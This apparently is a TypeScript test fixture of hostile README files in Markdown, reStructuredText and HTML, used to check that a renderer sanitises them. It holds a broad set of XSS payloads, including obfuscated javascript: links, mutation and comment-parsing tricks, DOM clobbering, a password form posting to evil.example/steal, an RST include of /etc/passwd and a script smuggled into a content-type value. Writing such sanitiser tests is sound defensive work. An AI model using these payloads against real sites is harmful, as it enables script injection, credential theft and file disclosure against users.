/** READMEs that try everything: each attempt would set `window.taken`, load from elsewhere, or change the page around it. */

export interface HostileReadme {
  readonly name: string
  readonly contentType: string
  readonly text: string
}

const ELSEWHERE = 'http://evil.example'

const HTML = `
<script>window.taken = 'script'; alert(1)</script>
<SCRIPT SRC="${ELSEWHERE}/x.js"></SCRIPT>
<scr<script>ipt>window.taken = 'split'</scr</script>ipt>
<img src=x onerror="window.taken = 'onerror'">
<img src="${ELSEWHERE}/pixel.png" alt="a tracking pixel">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.taken=1'/>">
<a id="bait" href="javascript:window.taken='link'">javascript link</a>
<a href="JaVaScRiPt&colon;window.taken='entity'">entity link</a>
<a href="&#x6a;avascript:window.taken='hex'">hex link</a>
<a href=" java\tscript:window.taken='tab'">tab link</a>
<a href="data:text/html,<script>window.taken='data'</script>">data link</a>
<a href="vbscript:window.taken='vb'">vb link</a>
<a href="//evil.example/">link without scheme</a>
<a href="https://good.example/" onclick="window.taken='onclick'" style="position:fixed;inset:0" target="_self">plain link</a>
<style>body { display: none } @import url("${ELSEWHERE}/x.css");</style>
<link rel="stylesheet" href="${ELSEWHERE}/x.css">
<iframe src="${ELSEWHERE}/frame"></iframe>
<iframe srcdoc="<script>parent.taken='srcdoc'</script>"></iframe>
<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">
<form id="search" action="${ELSEWHERE}/steal"><input name="password" autofocus onfocus="window.taken='focus'"><button>Log in</button></form>
<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/moved">
<base href="${ELSEWHERE}/">
<svg onload="window.taken='svg'"><script>window.taken='svg script'</script><a xlink:href="javascript:window.taken=1"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.taken='mutation'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.taken='noscript'>"></noscript>
<template><script>window.taken='template'</script></template>
<video src="${ELSEWHERE}/v.mp4" autoplay onloadstart="window.taken='video'"></video>
<audio src="${ELSEWHERE}/a.mp3" autoplay></audio>
<details open ontoggle="window.taken='toggle'"><summary>more</summary>text</details>
<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/bg.png)">overlay</div>
<body onload="window.taken='body'"><p id="content">the page's own id</p>
<input type="image" src="${ELSEWHERE}/button.png">
<marquee onstart="window.taken='marquee'">moving</marquee>
<a name="location">clobbers</a><img name="getElementById" src=x>
</main></body></html><h1>Out of the frame</h1><script>window.taken = 'end'</script>
<!-- --!><img src=x onerror="window.taken='comment'">
`

const MARKDOWN = `# Hostile

[link](javascript:window.taken='markdown') [data](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.taken=1>

![pixel](${ELSEWHERE}/markdown.png) ![x](x"onerror="window.taken='alt')

[ref]: javascript:window.taken='ref'
[ref] and [good](https://good.example/ "title\\" onmouseover=\\"window.taken='title'")

\`\`\`html"><script>window.taken='fence'</script>
<script>window.taken='code'</script>
\`\`\`

| a | b |
|---|---|
| <script>window.taken='cell'</script> | ${'very-long-word'.repeat(60)} |

${HTML}
`

const RST = `Hostile
=======

.. raw:: html

   <script>window.taken = 'raw'</script>

.. include:: /etc/passwd

.. image:: javascript:window.taken='image'
   :target: javascript:window.taken='target'

.. figure:: ${ELSEWHERE}/figure.png

\`link <javascript:window.taken='rst'>\`_ and \`data <data:text/html,<script>window.taken=1</script>>\`_

.. code-block:: html"><script>window.taken='block'</script>

   <script>window.taken='code'</script>

.. role:: raw-html(raw)
   :format: html

:raw-html:\`<script>window.taken='role'</script>\`

.. _target: javascript:window.taken='named'

target_

${HTML}
`

/** Names are those of projects. */
export const HOSTILE_READMES: readonly HostileReadme[] = [
  { name: 'hostile-markdown', contentType: 'text/markdown', text: MARKDOWN },
  { name: 'hostile-commonmark', contentType: 'text/markdown; variant=CommonMark', text: MARKDOWN },
  { name: 'hostile-rst', contentType: 'text/x-rst', text: RST },
  { name: 'hostile-html-as-rst', contentType: 'text/x-rst; charset=UTF-8', text: HTML },
  { name: 'hostile-plain', contentType: 'text/plain', text: HTML },
  { name: 'hostile-html', contentType: 'text/html', text: HTML },
  { name: 'hostile-type', contentType: "\"><script>window.taken='type'</script>", text: MARKDOWN },
  { name: 'hostile-none', contentType: '', text: MARKDOWN },
]
